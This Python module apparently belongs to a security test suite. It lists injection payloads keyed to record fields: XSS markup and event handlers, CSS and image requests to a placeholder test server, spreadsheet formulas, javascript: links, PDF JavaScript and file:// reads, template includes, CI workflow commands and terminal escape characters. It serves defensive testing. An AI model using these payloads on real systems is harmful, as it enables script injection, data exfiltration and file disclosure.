"""What strangers may write into a record to make it more than words: payloads of every class.

Each carries the number of the field that it stands in, so that whatever runs, asks or breaks names
the field. In a payload ``%N`` is that number, ``%B`` a server of the test and ``%F`` a file that
nobody may read.
"""

from dataclasses import dataclass
from typing import Final

CLASSES: Final = (
    "HTML",
    "attribute",
    "address",
    "CSS",
    "formula",
    "Markdown",
    "SARIF",
    "PDF",
    "workflow",
    "template",
    "terminal",
)
"""The classes of payloads, in the order of the table in the documentation."""


@dataclass(frozen=True, slots=True)
class Bait:
    """What a payload tries to reach: a server as ``host:port``, and the path of a file."""

    server: str
    file: str


@dataclass(frozen=True, slots=True)
class Payload:
    """A text that would be more than words in one place or another."""

    name: str
    classes: tuple[str, ...]
    template: str

    def text(self, number: int, bait: Bait) -> str:
        """Return the payload for a field."""
        filled = self.template.replace("%N", str(number))
        return filled.replace("%B", bait.server).replace("%F", bait.file)


PARTS: Final = (
    Payload("formula", ("formula",), "=z(%N)"),
    Payload(
        "markup",
        ("HTML", "attribute", "CSS"),
        "\"'></script><svg onload=z(%N) style=cursor:url(//%B/%N)>",
    ),
    Payload("link", ("address", "Markdown", "SARIF"), "[x](javascript:z(%N))"),
    Payload("file", ("PDF",), "<a rel=attachment href=%F>"),
    Payload("braces", ("template",), "{{%N*99}}"),
    Payload("command", ("workflow",), "##[error]z"),
)
"""Short ones, of every class that a record can hold; together they fit into a title."""

VARIANTS: Final = (
    Payload("script", ("HTML",), "</script><script>z(%N)</script>"),
    Payload(
        "closers", ("HTML",), "]]>--></title></style></textarea><img src=//%B/%N onerror=z(%N)>"
    ),
    Payload("handler", ("attribute",), "' autofocus tabindex=0 onfocus=z(%N) x='"),
    Payload("frame", ("HTML",), "<iframe src=//%B/%N></iframe><base href=//%B/>"),
    Payload("refresh", ("HTML",), '<meta http-equiv=refresh content="0;url=//%B/%N">'),
    Payload("sheet", ("CSS",), '</style><style>@import"//%B/%N";*{cursor:url(//%B/%N)}</style>'),
    Payload("anchor", ("address",), '<a href="javascript:z(%N)">x</a>'),
    Payload(
        "entities",
        ("address", "attribute"),
        "http://%B/%N?&quot;onload=z(%N)&lt;svg/onload=z(%N)&gt;%22%3E%3Csvg/onload=z(%N)%3E",
    ),
    Payload("sum", ("formula",), "@SUM(%N)\t=z(%N)"),
    Payload("picture", ("Markdown",), "![x](http://%B/%N) @z%N #%N <details> <!-- `"),
    Payload("cells", ("Markdown",), "| %N | ``` | **[x]: http://%B/%N"),
    Payload("placeholder", ("SARIF",), "{0} [%N](http://%B/%N)"),
    Payload(
        "attached",
        ("PDF",),
        "<link rel=attachment href=file://%F><link rel=stylesheet href=//%B/%N>"
        "<object data=file://%F></object><img src=file://%F>",
    ),
    Payload("operators", ("PDF",), ") /S /JavaScript /JS (z%N) /F (%F) >> endobj"),
    Payload("include", ("template",), '{% include "%F" %}${%N*99}%(x)s \\input{%F}'),
    Payload("lines", ("formula", "workflow"), "z\n=z(%N)\n+z(%N)\n::error::%N\n@z(%N)"),
    Payload("directive", ("template",), "z\n\n```{include} %F\n```\n\n.. include:: %F\n\nz"),
)
"""More of each class, for fields with room."""

PAYLOADS: Final = (*PARTS, *VARIANTS)

UNSEEN: Final = (
    Payload("escape", ("terminal",), "\x1b]0;%N\x07\x1b[2J"),
    Payload("backspace", ("terminal",), "%N\x08\x08\x08"),
    Payload("return", ("terminal",), "%N\rz"),
    Payload("direction", ("terminal",), "\u202e%N\u2066"),
    Payload("separator", ("terminal",), "%N\u2028z"),
    Payload("tags", ("terminal",), "%N\U000e0041\U000e0042"),
    Payload("control", ("terminal",), "\x9b31m%N"),
)
"""Characters that steer a terminal or hide words; no field may hold any of them."""
